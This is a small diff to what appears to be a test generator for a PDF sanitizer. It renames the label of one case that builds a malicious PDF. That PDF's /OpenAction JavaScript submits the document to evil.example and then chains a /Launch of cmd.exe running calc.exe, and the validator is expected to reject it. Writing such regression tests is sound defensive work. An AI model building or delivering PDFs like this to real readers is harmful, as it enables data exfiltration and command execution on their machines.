@@ -204,14 +204,14 @@ def main():
     case("named_nextpage.pdf", write_pdf(with_annot(link_annot(b"<< /S /Named /N /NextPage >>"))), "accepted", "",
          "every reader", "ISO 32000-1 12.6.4.11: a standard named action")
 
-    # --- the issue -------------------------------------------------------------
+    # --- the reported bypass ---------------------------------------------------
     objs = base_objects(catalog_extra=b" /OpenAction 6 0 R")
     objs[6] = (b"<< /Type /Action /S /JavaScript /JS (this.submitForm\\({cURL: 'https://evil.example/collect', "
                b"cSubmitAs: 'PDF'}\\);) /Next 7 0 R >>")
     objs[7] = b"<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> /F (cmd.exe) >>"
     case("issue17_openaction_js_submit_launch.pdf", write_pdf(objs), "rejected",
          "JavaScript action (/S /JavaScript) in object 6 0 (the catalog's /OpenAction)", ALL,
-         "issue 17: /OpenAction JavaScript calling submitForm, then /Launch cmd.exe (accepted by the type-only gate)")
+         "a reported bypass: /OpenAction JavaScript calling submitForm, then /Launch cmd.exe (accepted by the type-only gate)")
 
     # --- one construct per file ------------------------------------------------
     objs = base_objects(catalog_extra=b" /OpenAction 6 0 R")
